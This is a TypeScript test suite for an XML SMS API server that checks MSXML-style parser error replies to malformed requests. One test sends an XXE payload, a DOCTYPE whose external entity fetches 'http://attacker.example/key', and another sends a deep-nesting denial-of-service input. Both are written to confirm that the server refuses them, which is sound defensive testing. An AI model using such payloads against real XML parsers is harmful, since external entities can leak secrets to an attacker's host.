/**
 * A request that is not well-formed XML answers ErrorCode 11 with MSXML's `parseError` in the
 * `ParserError*` elements (XMLSPEC §7.2.6–7.2.11): the code (`-1072896680` "XML document must
 * have a top level element."…), the reason, and where parsing stopped — file position, line,
 * column and the text of that line. Never a crash, a hang, a stack trace or another status.
 *
 * @see shared/research/aspsms.md — §2.4 "Parser errors"
 */
import { describe, expect, it } from 'vitest'
import {
  expectReadableByEveryClient,
  IMPLEMENTATIONS,
  useXml,
  type ReplyFields,
} from './helpers.ts'

/** The parser error of a reply, without the ErrorCode/ErrorDescription every one has. */
const parserError = ({ ErrorCode, ErrorDescription, ...rest }: ReplyFields) => {
  expect([ErrorCode, ErrorDescription]).toEqual([
    '11',
    'Invalid message date. Please verify the data.',
  ])
  return rest
}

describe('parser errors over the standalone server', () => {
  const xml = useXml('standalone')
  const post = async (body: string | Uint8Array) => {
    const reply = await xml.post(body)
    expectReadableByEveryClient(reply)
    return parserError(reply.fields)
  }

  it('answers an empty body at line 0, position 0, without a source line', async () => {
    expect(await post('')).toEqual({
      ParserErrorCode: '-1072896680',
      ParserErrorDescription: 'XML document must have a top level element.',
      ParserErrorFilePos: '0',
      ParserErrorLine: '0',
      ParserErrorLinePos: '0',
    })
  })

  it('answers a declaration alone at the end of the input', async () => {
    expect(await post('<?xml version="1.0" encoding="ISO-8859-1"?>\r\n')).toEqual({
      ParserErrorCode: '-1072896680',
      ParserErrorDescription: 'XML document must have a top level element.',
      ParserErrorFilePos: '45',
      ParserErrorLine: '2',
      ParserErrorLinePos: '1',
    })
  })

  it('finds an unescaped & on its line and column, counting CRLF as one line end', async () => {
    const body =
      '<?xml version="1.0"?>\r\n<aspsms>\r\n  <MessageData>Fish & Chips</MessageData>\r\n</aspsms>'
    expect(await post(body)).toEqual({
      ParserErrorCode: '-1072896749',
      ParserErrorDescription: 'Whitespace is not allowed at this location.',
      ParserErrorFilePos: '54',
      ParserErrorLine: '3',
      ParserErrorLinePos: '22',
      ParserErrorSrcText: '<MessageData>Fish & Chips</MessageData>',
    })
  })

  it('stops at the end of the input when elements are left open, naming them', async () => {
    expect(await post('<aspsms>\n<Recipient>\n<PhoneNumber>0041795555555</PhoneNumber>\n')).toEqual(
      {
        ParserErrorCode: '-1072896685',
        ParserErrorDescription: 'The following tags were not closed: aspsms, Recipient.',
        ParserErrorFilePos: '62',
        ParserErrorLine: '4',
        ParserErrorLinePos: '1',
      },
    )
  })

  it.each([
    [
      '<aspsms><Action>ShowCredits</action></aspsms>',
      '-1072896659',
      "End tag 'action' does not match the start tag 'Action'.",
      30,
    ],
    [
      '<aspsms><MessageData>&uuml;</MessageData></aspsms>',
      '-1072898046',
      "Reference to undefined entity 'uuml'.",
      23,
    ],
    [
      '<aspsms><MessageData>a&b c</MessageData></aspsms>',
      '-1072896755',
      'A semi colon character was expected.',
      25,
    ],
    [
      '<aspsms><MessageData>a < b</MessageData></aspsms>',
      '-1072896764',
      'A name was started with an invalid character.',
      25,
    ],
    [
      '<aspsms><MessageData>&#xD800;</MessageData></aspsms>',
      '-1072896737',
      'Invalid unicode character value for this platform.',
      25,
    ],
    [
      '<aspsms><MessageData>&#12a;</MessageData></aspsms>',
      '-1072896739',
      'Invalid character for decimal digit.',
      26,
    ],
    [
      '<aspsms><MessageData>\u0007</MessageData></aspsms>',
      '-1072896760',
      'An Invalid character was found in text content.',
      22,
    ],
    [
      '<aspsms></aspsms><aspsms/>',
      '-1072896683',
      'Only one top level element is allowed in an XML document.',
      19,
    ],
    ['<aspsms/>trailing', '-1072896682', 'Invalid at the top level of the document.', 10],
    [
      '<aspsms></Action>',
      '-1072896659',
      "End tag 'Action' does not match the start tag 'aspsms'.",
      11,
    ],
    ['</aspsms>', '-1072896686', 'End tag was not expected at this location.', 3],
    [
      '<aspsms><Action>ShowCredits</Action></aspsm',
      '-1072896673',
      "End element was missing the character '>'.",
      44,
    ],
    ['<aspsms><Action', '-1072896674', 'Element was not closed.', 16],
    [
      '<aspsms a=1/>',
      '-1072896766',
      'A string literal was expected, but no opening quote character was found.',
      11,
    ],
    [
      '<aspsms><!-- a -- b --></aspsms>',
      '-1072896765',
      'Incorrect syntax was used in a comment.',
      16,
    ],
    ['<aspsms/>\n<?xml version="1.0"?>', '-1072896681', 'Invalid xml declaration.', 3],
    ['<?xml version="2.0"?><aspsms/>', '-1072896641', 'Invalid version number.', 16],
    [
      '<?xml encoding="UTF-8"?><aspsms/>',
      '-1072896663',
      "The 'version' attribute is required at this location.",
      7,
    ],
    [
      '<?xml version="1.0" encoding="UTF-16"?><aspsms/>',
      '-1072896658',
      'System does not support the specified encoding.',
      31,
    ],
  ])(
    'answers %j with %s at the column where parsing stopped',
    async (body, code, description, column) => {
      const error = await post(body)
      expect(error).toMatchObject({ ParserErrorCode: code, ParserErrorDescription: description })
      expect(Number(error.ParserErrorLinePos)).toBe(column)
    },
  )

  it('refuses a DOCTYPE, so that no entity is ever declared, expanded or fetched', async () => {
    const body =
      '<?xml version="1.0"?>\n<!DOCTYPE aspsms [<!ENTITY key SYSTEM "http://attacker.example/key">]>\n' +
      '<aspsms><Userkey>&key;</Userkey><Action>ShowCredits</Action></aspsms>'
    expect(await post(body)).toEqual({
      ParserErrorCode: '-1072896636',
      ParserErrorDescription: 'DTD is prohibited.',
      ParserErrorFilePos: '22',
      ParserErrorLine: '2',
      ParserErrorLinePos: '1',
      ParserErrorSrcText: '<!DOCTYPE aspsms [<!ENTITY key SYSTEM "http://attacker.example/key">]>',
    })
    expect(await xml.callbacks()).toEqual([])
  })

  it('refuses an entity declaration outside a DOCTYPE', async () => {
    expect((await post('<!ENTITY x "y"><aspsms/>')).ParserErrorDescription).toBe(
      'Cannot have a DTD declaration outside of a DTD.',
    )
  })

  it('refuses nesting deeper than 256 elements (MSXML 6’s MaxElementDepth) in no time', async () => {
    const started = performance.now()
    const error = await post('<a>'.repeat(30_000) + '</a>'.repeat(30_000))
    expect(error.ParserErrorDescription).toBe(
      'Element depth exceeds limit in MaxElementDepth property.',
    )
    expect(error.ParserErrorLinePos).toBe('769')
    expect(performance.now() - started).toBeLessThan(2000)
  })

  it('echoes the source line as ASCII with references, whatever it held', async () => {
    const body = Buffer.from('<aspsms><MessageData>Grüezi € & ok</MessageData></aspsms>', 'utf8')
    const reply = await xml.post(body)
    expectReadableByEveryClient(reply)
    expect(reply.text).toContain(
      '<ParserErrorSrcText>&lt;aspsms&gt;&lt;MessageData&gt;Gr&#252;ezi &#8364; &amp; ok&lt;/MessageData&gt;&lt;/aspsms&gt;</ParserErrorSrcText>',
    )
  })

  it('keeps 1024 characters of a very long line, around the error', async () => {
    const body = `<aspsms><MessageData>${'x'.repeat(5000)}&</MessageData></aspsms>`
    const error = await post(body)
    expect(error.ParserErrorLinePos).toBe('5023')
    expect(error.ParserErrorSrcText).toBe(`${'x'.repeat(1000)}&</MessageData></aspsms>`)
  })

  it('counts columns in characters of the decoded text, not in bytes', async () => {
    const body = Buffer.from('<aspsms><MessageData>Gr\xfcezi & co</MessageData></aspsms>', 'latin1')
    expect((await post(body)).ParserErrorLinePos).toBe('30')
  })

  it('journals the parser error', async () => {
    await xml.post('<aspsms>')
    const [entry] = await xml.journal()
    expect(entry).toMatchObject({
      transport: 'xml',
      code: 11,
      request: {
        method: 'POST',
        bytes: 8,
        parserError: { code: -1072896685, line: 1, linePos: 9 },
      },
    })
  })
})

describe.each(IMPLEMENTATIONS)('parser errors through $name', ({ kind }) => {
  const xml = useXml(kind)

  it('answers HTTP 200 and the full reply, never a 500', async () => {
    const reply = await xml.post('<aspsms><Action>ShowCredits</Action>')
    expectReadableByEveryClient(reply)
    expect(reply.text).toMatchInlineSnapshot(`
      "<?xml version="1.0"?>
      <aspsms>
        <ErrorCode>11</ErrorCode>
        <ErrorDescription>Invalid message date. Please verify the data.</ErrorDescription>
        <ParserErrorCode>-1072896685</ParserErrorCode>
        <ParserErrorDescription>The following tags were not closed: aspsms.</ParserErrorDescription>
        <ParserErrorFilePos>36</ParserErrorFilePos>
        <ParserErrorLine>1</ParserErrorLine>
        <ParserErrorLinePos>37</ParserErrorLinePos>
        <ParserErrorSrcText>&lt;aspsms&gt;&lt;Action&gt;ShowCredits&lt;/Action&gt;</ParserErrorSrcText>
      </aspsms>
      "
    `)
  })
})
